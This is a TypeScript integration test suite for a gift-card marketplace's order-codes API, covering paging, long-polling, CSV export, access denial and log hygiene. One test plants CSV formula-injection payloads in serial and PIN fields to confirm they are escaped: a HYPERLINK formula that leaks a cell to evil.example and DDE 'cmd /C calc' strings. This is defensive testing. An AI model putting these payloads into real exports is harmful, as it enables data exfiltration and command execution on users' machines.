import { randomUUID } from 'node:crypto';
import { parse } from 'csv-parse/sync';
import { CODE_FORMAT, created, marketplace, randomCode, startSystem, type Account, type ApiResponse, type JsonBody, type Marketplace, type SystemHarness } from '@kami/testing';

/*
 * An order's codes as its buyer reads them, through the gateway, with every service running for
 * real (PostgreSQL, Redis, Kafka): paged JSON (a session or an API key), the long-poll that
 * answers the moment the order is delivered, the CSV download; nobody but the buyer finds the
 * order, and no plaintext reaches delivery's logs.
 */

const UNIT_PRICE = 1_000;

let h: SystemHarness;
let m: Marketplace;
let operator: Account;
let supplier: Account;
let productId: string;
/** Every plaintext uploaded by this file's tests: none may appear in a log. */
const uploaded: string[] = [];

const deliveryDb = <R>(sql: string, params?: unknown[]): Promise<R[]> => h.service('delivery').query<R>(sql, params);

interface CodeItem {
  codeId: string;
  lineId: string;
  productId: string;
  offerId: string;
  code: string;
  expiresAt: string | null;
}

type Caller = { token: string } | { apiKey: string };

function codesOf(caller: Caller, orderId: string, query = ''): Promise<ApiResponse> {
  return h.gateway.request('GET', `/api/v1/orders/${orderId}/codes${query}`, caller);
}

/** A new offer of the product with `stock` codes, and a delivered order of `quantity` of them by `merchant`. */
async function deliveredOrder(
  merchant: Account,
  stock: number,
  quantity: number,
  { fulfilment = 'codes', unitPrice = UNIT_PRICE }: { fulfilment?: 'codes' | 'stock'; unitPrice?: number } = {},
): Promise<{ order: JsonBody; offerCodes: string[] }> {
  const { offer, codes } = await m.offerWithCodes(supplier, productId, [{ minQuantity: 1, unitPrice }], stock);
  uploaded.push(...codes);
  const placed = await created(m.placeOrder(merchant, { lines: [{ offerId: offer.id, quantity }], fulfilment }));
  return { order: await m.untilDelivered(merchant, placed.id), offerCodes: codes };
}

/** The ids of the codes the vault sold to the order (committed to its line). */
async function soldByVault(orderId: string): Promise<string[]> {
  const rows = await h.service('vault').query<{ id: string }>(
    `SELECT c.id::text AS id FROM code c JOIN reservation r ON r.id = c.reservation_id WHERE r.order_id = $1 AND r.status = 'committed' AND c.status = 'allocated'`,
    [orderId],
  );
  return rows.map((r) => r.id).sort();
}

beforeAll(async () => {
  h = await startSystem({
    label: 'order_codes',
    limits: { RATE_LIMIT_PER_IP: 100_000, RATE_LIMIT_PER_API_KEY: 100_000 },
    services: ['catalog', 'vault', 'ordering', 'settlement', 'delivery'],
  });
  operator = await h.bootstrapOperator();
  m = marketplace(h, operator);
  const brandId = await m.createBrand();
  supplier = await m.authorisedSupplier(brandId, 'Codes Direct');
  productId = (await m.createProduct(brandId)).id;
}, 180_000);

afterAll(async () => {
  await h?.stop();
});

describe('GET /api/v1/orders/{id}/codes and codes.csv', () => {
  it("hands the buyer exactly the codes the vault sold to the order, the same on every read, paged and as CSV, noting each code's first reveal and its channel", async () => {
    const merchant = await m.fundedMerchant(100_000);
    // Two more codes than ordered, so which ones the vault picked matters.
    const { order, offerCodes } = await deliveredOrder(merchant, 7, 5);
    const line = order.lines[0];
    const key = await m.apiKey(merchant);
    expect(await deliveryDb(`SELECT count(*)::int AS n FROM delivered_code WHERE order_id = $1 AND first_revealed_at IS NULL`, [order.id])).toEqual([{ n: 5 }]);

    // Page one in a portal session, page two through the storefront's API key.
    const first = await codesOf(merchant, order.id, '?limit=3');
    expect(first.status).toBe(200);
    expect(first.headers.get('cache-control')).toBe('no-store');
    expect(first.body).toMatchObject({ orderId: order.id, status: 'delivered', nextCursor: expect.any(String) });
    expect(first.body.items).toHaveLength(3);
    const second = await codesOf({ apiKey: key.key }, order.id, `?limit=3&cursor=${first.body.nextCursor}`);
    expect(second.status).toBe(200);
    expect(second.body).toMatchObject({ orderId: order.id, status: 'delivered', nextCursor: null });
    expect(second.body.items).toHaveLength(2);

    const items: CodeItem[] = [...first.body.items, ...second.body.items];
    expect(items.map((i) => i.codeId).sort()).toEqual(await soldByVault(order.id));
    expect(new Set(items.map((i) => i.code)).size).toBe(5);
    for (const item of items) {
      expect(offerCodes).toContain(item.code);
      expect(item).toEqual({ codeId: expect.any(String), lineId: line.id, productId, offerId: line.offerId, code: expect.any(String), expiresAt: null, dispute: null });
    }

    // Reading again gives the same codes in the same order, and leaves each code's first reveal as it was.
    const again = await codesOf(merchant, order.id, '?limit=1000');
    expect(again.body).toEqual({ orderId: order.id, status: 'delivered', items, nextCursor: null });
    const ledger = await deliveryDb<{ code_id: string; position: number; channel: string; revealed: boolean }>(
      `SELECT code_id::text, position, first_reveal_channel AS channel, first_revealed_at IS NOT NULL AS revealed FROM delivered_code WHERE order_id = $1 ORDER BY position`,
      [order.id],
    );
    expect(ledger).toEqual(items.map((item, position) => ({ code_id: item.codeId, position, channel: position < 3 ? 'portal' : 'api', revealed: true })));

    // Every read was a reveal the vault recorded, with who asked.
    const reveals = await h.service('vault').query<{ channel: string; actor: string; code_count: number }>(
      `SELECT channel, actor, code_count FROM reveal WHERE order_id = $1 ORDER BY revealed_at`,
      [order.id],
    );
    expect(reveals.map((r) => [r.channel, r.code_count])).toEqual([['portal', 3], ['api', 2], ['portal', 5]]);
    expect(reveals[1]!.actor).toBe(key.id);

    // The CSV: all of them, the same, as an attachment that is not cached.
    const csv = await h.gateway.request('GET', `/api/v1/orders/${order.id}/codes.csv`, { token: merchant.token });
    expect(csv.status).toBe(200);
    expect(csv.headers.get('content-type')).toMatch(/^text\/csv/);
    expect(csv.headers.get('content-disposition')).toBe(`attachment; filename="order-${order.id}-codes.csv"`);
    expect(csv.headers.get('cache-control')).toBe('no-store');
    expect(csv.text.split('\r\n')[0]).toBe('code_id,product_id,offer_id,code,pin,serial,redemption_url,expires_at');
    const rows = parse(csv.text, { columns: true }) as Record<string, string>[];
    expect(rows).toEqual(
      items.map((i) => ({ code_id: i.codeId, product_id: productId, offer_id: line.offerId, code: i.code, pin: '', serial: '', redemption_url: '', expires_at: '' })),
    );
  });

  it('pages a large order 1,000 codes at most and downloads all of it as CSV, one vault reveal per 1,000 codes', async () => {
    const merchant = await m.fundedMerchant(100_000);
    const { order, offerCodes } = await deliveredOrder(merchant, 1_001, 1_001, { unitPrice: 10 });

    expect((await codesOf(merchant, order.id, '?limit=1001')).status).toBe(400);
    const first = await codesOf(merchant, order.id, '?limit=1000');
    expect([first.body.items.length, typeof first.body.nextCursor]).toEqual([1_000, 'string']);
    const second = await codesOf(merchant, order.id, `?limit=1000&cursor=${first.body.nextCursor}`);
    expect([second.body.items.length, second.body.nextCursor]).toEqual([1, null]);
    const items: CodeItem[] = [...first.body.items, ...second.body.items];
    expect(items.map((i) => i.code).sort()).toEqual([...offerCodes].sort());

    const csv = await h.gateway.request('GET', `/api/v1/orders/${order.id}/codes.csv`, { token: merchant.token });
    expect(csv.status).toBe(200);
    const rows = parse(csv.text, { columns: true }) as Record<string, string>[];
    expect(rows.map((r) => [r.code_id, r.code])).toEqual(items.map((i) => [i.codeId, i.code]));
    const downloads = await h.service('vault').query<{ code_count: number }>(`SELECT code_count FROM reveal WHERE order_id = $1 AND purpose = 'csv_download' ORDER BY revealed_at`, [order.id]);
    expect(downloads.map((r) => r.code_count)).toEqual([1_000, 1]);
  });

  it('answers a long-poll sent right after placing the order as soon as the order is delivered', async () => {
    const merchant = await m.fundedMerchant(100_000);
    const { offer, codes } = await m.offerWithCodes(supplier, productId, [{ minQuantity: 1, unitPrice: UNIT_PRICE }], 3);
    uploaded.push(...codes);
    const placed = await created(m.placeOrder(merchant, { lines: [{ offerId: offer.id, quantity: 3 }] }));

    const sentAt = Date.now();
    const answer = await codesOf(merchant, placed.id, '?wait=30');
    const answeredAt = Date.now();

    expect(answer.status).toBe(200);
    expect(answer.body.status).toBe('delivered');
    expect(answer.body.items.map((i: CodeItem) => i.code).sort()).toEqual([...codes].sort());
    const [{ delivered_at_ms: deliveredAt }] = await deliveryDb<{ delivered_at_ms: number }>(
      `SELECT (extract(epoch FROM delivered_at) * 1000)::float8 AS delivered_at_ms FROM delivery_order WHERE order_id = $1`,
      [placed.id],
    );
    // It waited (the order was delivered after the request went out) and answered within a second of the delivery.
    expect(deliveredAt).toBeGreaterThan(sentAt);
    expect(answeredAt - deliveredAt).toBeGreaterThanOrEqual(0);
    expect(answeredAt - deliveredAt).toBeLessThan(1_000);
  });

  it('answers a long-poll for an order that is cancelled instead (the wallet could not pay) with status cancelled and no codes', async () => {
    const merchant = await m.emptyMerchant();
    const offer = await m.offerWithStock(supplier, productId, [{ minQuantity: 1, unitPrice: UNIT_PRICE }], 2);
    const placed = await created(m.placeOrder(merchant, { lines: [{ offerId: offer.id, quantity: 2 }] }));
    const answer = await codesOf(merchant, placed.id, '?wait=30');
    expect([answer.status, answer.body.status, answer.body.items]).toEqual([200, 'cancelled', []]);
    const order = (await h.gateway.request('GET', `/api/v1/orders/${placed.id}`, { token: merchant.token })).body;
    expect([order.status, order.statusReason]).toEqual(['cancelled', 'insufficient_balance']);
  });

  it("is a 404 that names nothing for anyone but the buyer: another merchant (session or API key) and a supplier", async () => {
    const buyer = await m.fundedMerchant(100_000);
    const { order } = await deliveredOrder(buyer, 2, 2);
    const items: CodeItem[] = (await codesOf(buyer, order.id)).body.items;
    const other = await h.createAccount(operator.token, 'merchant');
    const otherKey = await m.apiKey(other);
    const secrets = [order.lines[0].id, buyer.organisationId, ...items.flatMap((i) => [i.codeId, i.code])];

    const unknown = await codesOf(other, randomUUID());
    expect(unknown.status).toBe(404);
    // Apart from what is the caller's own request (its path, its request id).
    const problemOf = ({ instance: _instance, requestId: _requestId, ...rest }: JsonBody): JsonBody => rest;
    for (const caller of [other, supplier, { apiKey: otherKey.key }] as Caller[]) {
      for (const path of ['/codes', '/codes?wait=1', '/codes.csv']) {
        const response = await h.gateway.request('GET', `/api/v1/orders/${order.id}${path}`, caller);
        expect([path, response.status, response.contentType]).toEqual([path, 404, 'application/problem+json']);
        // The same answer as for an order that does not exist.
        expect(problemOf(response.body)).toEqual(problemOf(unknown.body));
        expect(JSON.stringify(problemOf(response.body))).not.toContain(order.id);
        for (const secret of secrets) expect(response.text).not.toContain(secret);
      }
    }
    expect(unknown.body).toMatchObject({ status: 404, code: 'order_not_found' });
  });

  it('answers 409 codes_in_stock for an order bought into stock', async () => {
    const merchant = await m.fundedMerchant(100_000);
    const { order } = await deliveredOrder(merchant, 2, 2, { fulfilment: 'stock' });
    for (const path of ['/codes', '/codes?wait=30', '/codes.csv']) {
      const response = await h.gateway.request('GET', `/api/v1/orders/${order.id}${path}`, { token: merchant.token });
      expect([path, response.status, response.body?.code]).toEqual([path, 409, 'codes_in_stock']);
    }
    expect(await deliveryDb(`SELECT count(*)::int AS n FROM delivered_code WHERE order_id = $1 AND first_revealed_at IS NOT NULL`, [order.id])).toEqual([{ n: 0 }]);
  });

  it('writes codes.csv safe to open in a spreadsheet (a formula in a serial or PIN is text, not run), while ?format=raw and the JSON keep the exact values', async () => {
    // A product whose codes carry an optional, unpatterned PIN and a serial: both are the supplier's free text.
    // (The vault trims what it stores, so a leading tab or CR never arrives here; the platform's unit test covers those.)
    const brandId = await m.createBrand();
    const formulaSupplier = await m.authorisedSupplier(brandId, 'Formula Cards');
    const product = await created(
      h.gateway.request('POST', '/api/v1/catalog/products', {
        token: operator.token,
        json: { name: `Formula ¥100 ${randomUUID().slice(0, 6)}`, brandId, categoryCode: 'game-cards.pc', faceValue: 10000, region: 'CN', codeFormat: { ...CODE_FORMAT, pin: 'optional' } },
      }),
    );
    const attack = { code: randomCode(), serial: '=HYPERLINK("http://evil.example/?x="&A1,"Redeem")', pin: '@SUM(1+1)*cmd|\' /C calc\'!A0' };
    const lines = [attack, { code: randomCode(), serial: '+1+1', pin: '-2+3' }, { code: randomCode(), serial: '=1+1', pin: '=cmd|\' /C calc\'!A0' }, { code: randomCode(), serial: '-42', pin: 'PLAIN' }];
    const { offer } = await m.offerWithCodes(formulaSupplier, product.id, [{ minQuantity: 1, unitPrice: UNIT_PRICE }], lines);
    uploaded.push(...lines.map((l) => l.code));
    const merchant = await m.fundedMerchant(100_000);
    const placed = await created(m.placeOrder(merchant, { lines: [{ offerId: offer.id, quantity: lines.length }] }));
    const order = await m.untilDelivered(merchant, placed.id);
    const exact = new Map(lines.map((l) => [l.code, l]));

    // The default download: every cell that a spreadsheet would run starts with an apostrophe; plain numbers stay numbers.
    const csv = await h.gateway.request('GET', `/api/v1/orders/${order.id}/codes.csv`, { token: merchant.token });
    expect(csv.status).toBe(200);
    const rows = parse(csv.text, { columns: true }) as Record<string, string>[];
    expect(rows).toHaveLength(lines.length);
    for (const row of rows) {
      const line = exact.get(row.code)!;
      const safe = (value: string): string => (/^[=+\-@\t\r]/.test(value) && !/^[+-]?\d+(\.\d+)?$/.test(value) ? `'${value}` : value);
      expect([row.serial, row.pin]).toEqual([safe(line.serial), safe(line.pin)]);
      for (const cell of Object.values(row)) expect(cell).not.toMatch(/^[=+@\t\r]|^-(?!\d+(\.\d+)?$)/);
    }
    expect(rows.find((r) => r.code === attack.code)).toMatchObject({ serial: `'${attack.serial}`, pin: `'${attack.pin}` });

    // The machine-readable forms keep every value exactly: the raw CSV and the JSON.
    const raw = await h.gateway.request('GET', `/api/v1/orders/${order.id}/codes.csv?format=raw`, { token: merchant.token });
    expect(raw.status).toBe(200);
    expect(raw.headers.get('content-type')).toMatch(/^text\/csv/);
    expect(raw.headers.get('content-disposition')).toBe(`attachment; filename="order-${order.id}-codes.raw.csv"`);
    const rawRows = parse(raw.text, { columns: true }) as Record<string, string>[];
    expect(rawRows.map((r) => [r.code, r.pin, r.serial]).sort()).toEqual(lines.map((l) => [l.code, l.pin, l.serial]).sort());
    const json = await codesOf(merchant, order.id);
    expect(json.body.items.map((i: CodeItem & { pin: string; serial: string }) => [i.code, i.pin, i.serial]).sort()).toEqual(lines.map((l) => [l.code, l.pin, l.serial]).sort());

    // Any other format is refused like any bad query.
    const other = await h.gateway.request('GET', `/api/v1/orders/${order.id}/codes.csv?format=excel`, { token: merchant.token });
    expect([other.status, other.contentType, other.body?.code]).toEqual([400, 'application/problem+json', 'validation_failed']);
  });

  it("never writes a code's plaintext to delivery's or the gateway's logs", () => {
    expect(uploaded.length).toBeGreaterThan(0);
    const logs = h.service('delivery').process.output() + h.gateway.process.output();
    expect(uploaded.filter((code) => logs.includes(code))).toEqual([]);
  });
});
